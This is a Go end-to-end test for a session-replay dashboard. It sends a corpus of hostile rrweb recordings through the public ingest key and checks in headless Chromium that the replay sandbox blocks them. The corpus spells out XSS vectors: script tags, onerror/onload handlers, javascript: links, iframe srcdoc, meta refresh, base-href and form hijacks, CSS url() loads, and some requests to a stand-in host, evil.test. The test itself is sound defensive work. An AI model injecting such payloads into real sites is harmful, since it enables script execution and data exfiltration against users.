package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/network"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	"github.com/trailguide/trailguide/internal/browsertest"
)

// The XSS corpus: recordings a hostile page (or anyone holding the public
// ingest key, which ships in every page) can send, each trying to run
// script, navigate, submit or load something from outside when an analyst
// replays it. They go through POST /ingest/v1/batch with the public key like
// any SDK batch, and are played in the real dashboard in headless Chromium.
//
// What must hold for every case (docs/SECURITY.md, "Replay sandboxing"):
//   - the canary global top.__pwned is never called and the canary server
//     (an "outside" host on another port) gets no request;
//   - the dashboard document is unchanged: same URL, title, app root and
//     script elements;
//   - no request leaves the browser for a host outside the allow-list (the
//     server itself); a request the browser blocks (CSP) does not leave.

// xssNode is an rrweb serialized node (rrweb-snapshot's format).
type xssNode map[string]any

type xssDoc struct {
	next int
}

func (d *xssDoc) id() int { d.next++; return d.next }

func (d *xssDoc) el(tag string, attrs map[string]any, children ...xssNode) xssNode {
	if attrs == nil {
		attrs = map[string]any{}
	}
	if children == nil {
		children = []xssNode{}
	}
	return xssNode{"type": 2, "tagName": tag, "attributes": attrs, "childNodes": children, "id": d.id()}
}

func (d *xssDoc) svg(tag string, attrs map[string]any, children ...xssNode) xssNode {
	n := d.el(tag, attrs, children...)
	n["isSVG"] = true
	return n
}

func (d *xssDoc) text(s string) xssNode { return xssNode{"type": 3, "textContent": s, "id": d.id()} }

// xssCase is one recording of the corpus.
type xssCase struct {
	name string
	// body builds the <body> children of the full snapshot; mutations, if
	// set, builds an rrweb mutation (incremental source 0) applied 400 ms
	// later, given the body's id.
	body      func(d *xssDoc, canary string) []xssNode
	head      func(d *xssDoc, canary string) []xssNode
	mutations func(d *xssDoc, bodyID int, canary string) map[string]any
	// clicks are CSS selectors clicked inside the replay frame once the
	// mutation is applied (links, buttons, submit).
	clicks []string
}

// payload is the script each case tries to run: call the canary global of
// the dashboard and fetch the canary server.
func payload(canary, name string) string {
	return fmt.Sprintf(`top.__pwned(%q);parent.__pwned(%q);fetch(%q)`, name, name, canary+"/js/"+name)
}

func xssCorpus() []xssCase {
	return []xssCase{
		{name: "script", head: func(d *xssDoc, c string) []xssNode {
			return []xssNode{
				d.el("script", nil, d.text(payload(c, "script-inline"))),
				d.el("script", map[string]any{"src": c + "/script.js"}),
			}
		}, body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.el("script", nil, d.text(payload(c, "script-body")))}
		}},
		{name: "img-onerror", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.el("img", map[string]any{"src": "/nonexistent.png", "onerror": payload(c, "img-onerror")})}
		}},
		{name: "svg-onload", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.svg("svg", map[string]any{"onload": payload(c, "svg-onload"), "width": "10", "height": "10"},
				d.svg("circle", map[string]any{"r": "4", "cx": "5", "cy": "5"}),
				d.svg("a", map[string]any{"href": "javascript:" + payload(c, "svg-a")}, d.svg("text", nil, d.text("svg link"))))}
		}, clicks: []string{"svg a"}},
		{name: "javascript-link", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{
				d.el("a", map[string]any{"id": "jslink", "href": "javascript:" + payload(c, "javascript-link")}, d.text("click me")),
				d.el("a", map[string]any{"id": "outlink", "href": c + "/navigated", "target": "_top"}, d.text("top link")),
			}
		}, clicks: []string{"#jslink", "#outlink"}},
		{name: "iframe-srcdoc", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{
				d.el("iframe", map[string]any{"srcdoc": "<script>" + payload(c, "srcdoc") + "</script><img src=" + c + "/srcdoc.png>"}),
				d.el("iframe", map[string]any{"src": c + "/framed"}),
				d.el("iframe", map[string]any{"src": "javascript:" + payload(c, "iframe-js")}),
			}
		}},
		{name: "meta-refresh", head: func(d *xssDoc, c string) []xssNode {
			return []xssNode{
				d.el("meta", map[string]any{"http-equiv": "refresh", "content": "0;url=" + c + "/meta"}),
				d.el("meta", map[string]any{"http-equiv": "refresh", "content": "0;url=javascript:" + payload(c, "meta-js")}),
			}
		}},
		{name: "base-href", head: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.el("base", map[string]any{"href": c + "/base/"})}
		}, body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.el("img", map[string]any{"src": "relative.png"}), d.el("a", map[string]any{"id": "rel", "href": "relative"}, d.text("relative link"))}
		}, clicks: []string{"#rel"}},
		{name: "form-autosubmit", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{
				d.el("form", map[string]any{"id": "f", "action": c + "/form", "method": "post", "target": "_top"},
					d.el("input", map[string]any{"name": "q", "value": "x", "autofocus": ""}),
					d.el("button", map[string]any{"id": "submit", "type": "submit"}, d.text("Go"))),
				d.el("img", map[string]any{"src": "/nonexistent.png", "onerror": "document.getElementById('f').submit()"}),
				d.el("button", map[string]any{"id": "formaction", "form": "f", "formaction": "javascript:" + payload(c, "formaction")}, d.text("Go 2")),
			}
		}, clicks: []string{"#submit", "#formaction"}},
		{name: "mutation-handlers", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.el("button", map[string]any{"id": "target"}, d.text("target"))}
		}, mutations: func(d *xssDoc, bodyID int, c string) map[string]any {
			return map[string]any{
				"source": 0, "texts": []any{}, "removes": []any{},
				"attributes": []any{
					map[string]any{"id": bodyID + 1, "attributes": map[string]any{"onclick": payload(c, "mut-onclick"), "onmouseover": payload(c, "mut-over")}},
					map[string]any{"id": bodyID, "attributes": map[string]any{"onload": payload(c, "mut-body-onload"), "background": c + "/bg.png"}},
				},
				"adds": []any{
					map[string]any{"parentId": bodyID, "nextId": nil, "node": d.el("img", map[string]any{"id": "added", "src": "/nonexistent.png", "onerror": payload(c, "mut-img")})},
					map[string]any{"parentId": bodyID, "nextId": nil, "node": d.el("script", nil, d.text(payload(c, "mut-script")))},
					map[string]any{"parentId": bodyID, "nextId": nil, "node": d.el("a", map[string]any{"id": "mutlink", "href": "javascript:" + payload(c, "mut-link")}, d.text("added link"))},
				},
			}
		}, clicks: []string{"#target", "#mutlink", "#added"}},
		{name: "css-url", head: func(d *xssDoc, c string) []xssNode {
			css := fmt.Sprintf(`@import url(%s/import.css); @font-face { font-family: x; src: url(%s/font.woff); } body { background: url(%s/bg.png); font-family: x; } p::after { content: url(https://evil.test/after.png); }`, c, c, c)
			return []xssNode{
				d.el("style", nil, d.text(css)),
				d.el("link", map[string]any{"rel": "stylesheet", "href": c + "/link.css"}),
				d.el("link", map[string]any{"rel": "prefetch", "href": c + "/prefetch"}),
				d.el("link", map[string]any{"rel": "stylesheet", "_cssText": css}),
			}
		}, body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{d.el("p", map[string]any{"style": "background-image: url(" + c + "/inline.png)"}, d.text("styled"))}
		}},
		{name: "object-embed", body: func(d *xssDoc, c string) []xssNode {
			return []xssNode{
				d.el("object", map[string]any{"data": c + "/object"}),
				d.el("embed", map[string]any{"src": c + "/embed"}),
				d.el("video", map[string]any{"poster": c + "/poster.png", "src": c + "/video.mp4"}),
				d.el("img", map[string]any{"src": "https://evil.test/pixel.png", "srcset": c + "/srcset.png 2x"}),
				d.el("audio", map[string]any{"src": c + "/audio.mp3", "autoplay": ""}),
			}
		}},
	}
}

// xssEvents builds the rrweb events of one case.
func xssEvents(tc xssCase, canary string, start time.Time) []any {
	d := &xssDoc{}
	docID := d.id()
	doctypeID := d.id()
	htmlID := d.id()
	headID := d.id()
	bodyID := d.id()
	var head, body []xssNode
	head = append(head, d.el("title", nil, d.text("xss "+tc.name)))
	if tc.head != nil {
		head = append(head, tc.head(d, canary)...)
	}
	body = append(body, d.el("h1", nil, d.text("xss-case-"+tc.name)))
	if tc.body != nil {
		// The first body child's id is bodyID+1 only for the h1's text;
		// mutation-handlers targets the button by id below.
		body = append(body, tc.body(d, canary)...)
	}
	node := xssNode{"type": 0, "id": docID, "childNodes": []xssNode{
		{"type": 1, "name": "html", "publicId": "", "systemId": "", "id": doctypeID},
		{"type": 2, "tagName": "html", "attributes": map[string]any{}, "id": htmlID, "childNodes": []xssNode{
			{"type": 2, "tagName": "head", "attributes": map[string]any{}, "id": headID, "childNodes": head},
			{"type": 2, "tagName": "body", "attributes": map[string]any{}, "id": bodyID, "childNodes": body},
		}},
	}}
	ts := start.UnixMilli()
	events := []any{
		map[string]any{"type": 4, "data": map[string]any{"href": "https://shop.test/xss/" + tc.name, "width": 1000, "height": 700}, "timestamp": ts},
		map[string]any{"type": 2, "data": map[string]any{"node": node, "initialOffset": map[string]int{"left": 0, "top": 0}}, "timestamp": ts + 10},
	}
	if tc.mutations != nil {
		m := tc.mutations(d, bodyID, canary)
		// Point the attribute mutation at the case's first element (the
		// button after the h1 and its text).
		if attrs, ok := m["attributes"].([]any); ok && len(attrs) > 0 {
			attrs[0].(map[string]any)["id"] = findID(body, "target")
		}
		events = append(events, map[string]any{"type": 3, "data": m, "timestamp": ts + 400})
	}
	events = append(events, map[string]any{"type": 3, "data": map[string]any{"source": 1, "positions": []any{map[string]int{"x": 5, "y": 5, "id": bodyID, "timeOffset": 0}}}, "timestamp": ts + 3000})
	return events
}

// findID returns the rrweb id of the element whose id attribute is want.
func findID(nodes []xssNode, want string) int {
	for _, n := range nodes {
		if a, ok := n["attributes"].(map[string]any); ok && a["id"] == want {
			return n["id"].(int)
		}
		if c, ok := n["childNodes"].([]xssNode); ok {
			if id := findID(c, want); id != 0 {
				return id
			}
		}
	}
	return 0
}

// requestLog records every request the browser starts, and which ones it
// blocked itself (CSP, sandbox) before they left.
type requestLog struct {
	mu      sync.Mutex
	urls    map[network.RequestID]string
	blocked map[network.RequestID]string
}

func newRequestLog() *requestLog {
	return &requestLog{urls: map[network.RequestID]string{}, blocked: map[network.RequestID]string{}}
}

func (l *requestLog) listen(ev any) {
	l.mu.Lock()
	defer l.mu.Unlock()
	switch e := ev.(type) {
	case *network.EventRequestWillBeSent:
		l.urls[e.RequestID] = e.Request.URL
	case *network.EventLoadingFailed:
		if e.BlockedReason != "" {
			l.blocked[e.RequestID] = string(e.BlockedReason)
		}
	}
}

// left returns the URLs of requests that were not blocked, reset after.
func (l *requestLog) left() []string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out []string
	for id, u := range l.urls {
		if _, ok := l.blocked[id]; !ok {
			out = append(out, u)
		}
	}
	clear(l.urls)
	clear(l.blocked)
	slices.Sort(out)
	return out
}

// TestE2EReplayXSSCorpus plays every recording of the corpus in the
// dashboard and checks that none of them runs, navigates, or reaches out.
func TestE2EReplayXSSCorpus(t *testing.T) {
	browserCtx := browsertest.New(t, 6*time.Minute)
	var canaryMu sync.Mutex
	var canaryHits []string
	canarySrv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		canaryMu.Lock()
		canaryHits = append(canaryHits, r.Method+" "+r.URL.Path)
		canaryMu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.WriteHeader(204)
	}))
	defer canarySrv.Close()
	canary := canarySrv.URL

	srv, api := startAdminServer(t)
	p := api.addProject("XSS")

	// Every case through the public ingest key, as any page could send it.
	corpus := xssCorpus()
	start := time.Now().Add(-time.Minute)
	for i, tc := range corpus {
		body, _ := json.Marshal(map[string]any{
			"key": p.PublicKey, "visitor": "visitor-xss", "session": fmt.Sprintf("session-xss-%02d", i), "window": "window-xss",
			"seq": 0, "sent_at": time.Now().UnixMilli(), "sdk": "xss-corpus",
			"events":  xssEvents(tc, canary, start),
			"signals": []any{map[string]any{"type": "pageview", "ts": start.UnixMilli(), "url": "https://shop.test/xss/" + tc.name}},
		})
		resp, err := http.Post(srv.URL+"/ingest/v1/batch", "text/plain", strings.NewReader(string(body)))
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != 200 {
			t.Fatalf("ingest %s: status %d", tc.name, resp.StatusCode)
		}
	}

	reqs := newRequestLog()
	if err := chromedp.Listen(browserCtx, reqs.listen); err != nil {
		t.Fatal(err)
	}
	if _, err := chromedp.Call(browserCtx, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{
		Source: `if (window === window.top) { window.__pwnedCalls = []; window.__pwned = function (c) { window.__pwnedCalls.push(String(c)); }; }`,
	}); err != nil {
		t.Fatal(err)
	}
	setupUI(t, browserCtx, srv)
	serverHost := mustHost(t, srv.URL)

	for i, tc := range corpus {
		t.Run(tc.name, func(t *testing.T) {
			sid := fmt.Sprintf("session-xss-%02d", i)
			pageURL := srv.URL + "/projects/" + p.ID + "/sessions/" + sid + "?t=0"
			if err := chromedp.Do(browserCtx, chromedp.Navigate(pageURL)); err != nil {
				t.Fatal(err)
			}
			marker := "xss-case-" + tc.name
			if _, err := chromedp.Run(browserCtx, chromedp.Poll[bool](fmt.Sprintf(`(() => { const f = document.querySelector('iframe'); try { return !!f && f.contentDocument.body.innerText.includes(%q); } catch (e) { return false; } })()`, marker),
				chromedp.WithPollingTimeout(30*time.Second))); err != nil {
				shot(t, browserCtx, "xss-"+tc.name+"-noreplay")
				t.Fatalf("replay never showed %q: %v", marker, err)
			}
			type docState struct {
				URL     string `json:"url"`
				Title   string `json:"title"`
				Scripts int    `json:"scripts"`
				AppRoot bool   `json:"app_root"`
				Sandbox string `json:"sandbox"`
				Frames  int    `json:"frames"`
			}
			stateJS := `({url: location.href, title: document.title, scripts: document.scripts.length,
				app_root: !!document.getElementById('app') && document.getElementById('app').childElementCount > 0,
				sandbox: (document.querySelector('iframe') || {getAttribute: () => 'none'}).getAttribute('sandbox') || '',
				frames: document.querySelectorAll('iframe').length})`
			before, err := chromedp.Run(browserCtx, chromedp.Evaluate[docState](stateJS))
			if err != nil {
				t.Fatal(err)
			}
			if before.Sandbox != "allow-same-origin" {
				t.Errorf("replay iframe sandbox = %q, want exactly allow-same-origin", before.Sandbox)
			}
			// Let the mutation apply and the replay reach its end, then
			// click what the case wants clicked inside the replay frame.
			time.Sleep(1500 * time.Millisecond)
			for _, sel := range tc.clicks {
				js := fmt.Sprintf(`(() => { const f = document.querySelector('iframe'); const el = f && f.contentDocument.querySelector(%q);
					if (!el) return false; el.dispatchEvent(new MouseEvent('mouseover', {bubbles: true}));
					if (typeof el.click === 'function') el.click(); else el.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true}));
					return true; })()`, sel)
				found, err := chromedp.Run(browserCtx, chromedp.Evaluate[bool](js))
				if err != nil {
					t.Errorf("click %s: %v", sel, err)
				} else if !found {
					t.Logf("%s: no %s in the replay (dropped by the player)", tc.name, sel)
				}
			}
			time.Sleep(1500 * time.Millisecond)

			after, err := chromedp.Run(browserCtx, chromedp.Evaluate[docState](stateJS))
			if err != nil {
				t.Fatalf("dashboard gone after the replay: %v", err)
			}
			if after.URL != before.URL || after.Title != before.Title || after.Scripts != before.Scripts || !after.AppRoot || after.Frames != before.Frames {
				t.Errorf("dashboard document changed: before %+v, after %+v", before, after)
			}
			calls, err := chromedp.Run(browserCtx, chromedp.Evaluate[[]string](`window.__pwnedCalls || ['canary global missing']`))
			if err != nil || len(calls) > 0 {
				t.Errorf("canary global called: %v (%v)", calls, err)
			}
			canaryMu.Lock()
			hits := slices.Clone(canaryHits)
			canaryHits = nil
			canaryMu.Unlock()
			if len(hits) > 0 {
				t.Errorf("the canary server was reached: %v", hits)
			}
			for _, u := range reqs.left() {
				if !allowedRequest(u, serverHost) {
					t.Errorf("a request left for a host outside the allow-list: %s", u)
				}
			}
			if t.Failed() {
				shot(t, browserCtx, "xss-"+tc.name)
			}
		})
	}
}

func mustHost(t *testing.T, raw string) string {
	u, err := url.Parse(raw)
	if err != nil {
		t.Fatal(err)
	}
	return u.Host
}

// allowedRequest: the dashboard's own server, and URLs that do not go to
// the network (data:, blob:, about:).
func allowedRequest(raw, serverHost string) bool {
	u, err := url.Parse(raw)
	if err != nil {
		return false
	}
	switch u.Scheme {
	case "data", "blob", "about":
		return true
	case "http", "https":
		return u.Host == serverHost
	}
	return false
}
